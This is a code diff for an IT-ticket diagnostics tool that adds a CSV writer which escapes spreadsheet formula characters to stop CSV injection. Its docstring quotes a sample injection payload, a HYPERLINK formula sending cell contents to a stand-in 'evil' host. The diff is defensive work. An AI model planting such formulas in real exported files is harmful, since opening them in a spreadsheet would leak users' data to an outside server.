@@ -1,12 +1,12 @@
 """Output hygiene shared by everything that writes files for people.
 
-- No CSV for users: reports are terminal text, Markdown, HTML and JSON, and the batch
-  index is Markdown and JSON. Ticket text is written by strangers, and
+- CSV only through :func:`csv_text`: ticket text is written by strangers, and
   ``=HYPERLINK("http://evil/?"&A1)`` typed into a summary would become a live formula
-  in a CSV opened in Excel, LibreOffice or Google Sheets; a CSV output for users would
-  first need its cells escaped (a leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab
-  or carriage return). ``tests/hostile/test_safe_outputs.py`` fails when a module
-  starts writing CSV. The sample writers in :mod:`itsm_diag.writers` are the exception
+  in a CSV opened in Excel, LibreOffice or Google Sheets, so every cell goes through
+  :func:`sheet_safe` (a leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab or carriage
+  return). The pulled files and the action list (``diagnose --format csv``) are the
+  only CSVs written for users; ``tests/hostile/test_safe_outputs.py`` fails when another
+  module starts writing CSV. The sample writers in :mod:`itsm_diag.writers` are the exception
   on purpose: they imitate what ServiceNow, Jira, Zendesk and Freshservice export, byte
   for byte, so the importers are tested against real-looking files.
 - :func:`private_matplotlib_config`: matplotlib writes a font cache to ``~/.cache`` or
@@ -17,12 +17,37 @@
 from __future__ import annotations
 
 import atexit
+import csv
+import io
 import os
 import shutil
 import sys
 import tempfile
+from collections.abc import Iterable
 
 _mpl_dir: str | None = None
+
+#: a cell starting with one of these runs as a formula when a spreadsheet opens the file
+_FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def sheet_safe(value: object) -> str:
+    """A cell as text a spreadsheet shows as text: ``'`` before a leading ``= + - @``
+    (OWASP's CSV-injection advice; ticket text such as ``=HYPERLINK(...)`` would
+    otherwise run when the file is opened in Excel). Blank for None."""
+    if value is None:
+        return ""
+    text = str(value)
+    return "'" + text if text.startswith(_FORMULA) else text
+
+
+def csv_text(header: list[str], rows: Iterable[list[object]]) -> str:
+    """A CSV's text: every cell, the header's too, through :func:`sheet_safe`."""
+    buf = io.StringIO()
+    out = csv.writer(buf, lineterminator="\n")
+    out.writerow([sheet_safe(h) for h in header])
+    out.writerows([sheet_safe(v) for v in row] for row in rows)
+    return buf.getvalue()
 
 
 def private_matplotlib_config() -> None:
